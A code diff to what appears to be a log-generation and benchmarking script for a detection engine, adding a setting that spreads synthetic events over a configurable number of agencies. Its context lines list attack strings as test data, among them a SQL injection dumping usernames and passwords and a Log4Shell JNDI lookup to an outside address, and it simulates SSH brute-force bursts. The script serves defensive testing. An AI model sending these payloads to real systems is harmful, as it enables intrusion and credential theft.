@@ -55,6 +55,7 @@ ATTACKS = ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/download?file=..%2
            "/api/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
            "/index.php?x=${jndi:ldap://198.51.100.9/a}")  # fmt: skip
 USERS = ("root", "admin", "alice", "oracle", "deploy", "backup")
+AGENCIES = [41]  # agencies the events are spread over (each writes its own data streams); --agencies
 
 
 def _line(i: int, when: datetime) -> tuple[str, bytes, bool]:
@@ -94,7 +95,7 @@ def make_events(n: int, tag: str) -> tuple[list[tuple[str, dict[str, Any]]], lis
     for i in range(n):
         kind, raw, attack = _line(i, now - timedelta(seconds=(n - i) / 1000))
         event = parse(kind, raw, ctx)
-        event["organization"] = {"id": f"agency-{i % 41:02d}"}
+        event["organization"] = {"id": f"agency-{i % AGENCIES[0]:02d}"}
         doc_id = f"{tag}-{'atk' if attack else 'ev'}-{i}"
         docs.append((doc_id, event))
         if attack:
@@ -113,17 +114,17 @@ def bursts(attackers: int = 10) -> list[tuple[str, dict[str, Any]]]:
     docs: list[tuple[str, dict[str, Any]]] = []
     for a in range(attackers):
         ip = f"198.18.{a}.{7 + a}"
+        org = {"id": f"agency-{a % AGENCIES[0]:02d}"}
         for k in range(30):
             when = now - timedelta(seconds=55 - k)
             raw = (f'{ip} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET /old/{k}.html HTTP/1.1" 404 153 "-" '
                    f'"{AGENTS[a % len(AGENTS)]}"').encode()
-            docs.append((f"burst-web-{a}-{k}", {**parse("nginx", raw, ctx), "organization": {"id": f"agency-{a:02d}"}}))
+            docs.append((f"burst-web-{a}-{k}", {**parse("nginx", raw, ctx), "organization": org}))
         for k in range(12):
             when = now - timedelta(seconds=58 - 4 * k)
             raw = (f"{when:%b} {when.day:>2} {when:%H:%M:%S} host{a} sshd[{4000 + k}]: Failed password for root "
                    f"from {ip} port {40000 + k} ssh2").encode()
-            docs.append((f"burst-ssh-{a}-{k}", {**parse("syslog", raw, ctx),
-                                                "organization": {"id": f"agency-{a:02d}"}}))
+            docs.append((f"burst-ssh-{a}-{k}", {**parse("syslog", raw, ctx), "organization": org}))
     return docs
 
 
@@ -329,7 +330,10 @@ def main(argv: list[str] | None = None) -> int:
                          help="run every rule as its plain query string on the keyword fields (the engine before "
                               "the wildcard sub-fields), for a same-node comparison")
     options.add_argument("--no-latency", action="store_true", help="only (b)")
+    options.add_argument("--agencies", type=int, default=41,
+                         help="spread the events over this many agencies, each with its own data streams (default 41)")
     args = options.parse_args(argv)
+    AGENCIES[0] = max(1, args.agencies)
     home: Path | None = None
     if args.url:
         base = Settings(opensearch_url=args.url)
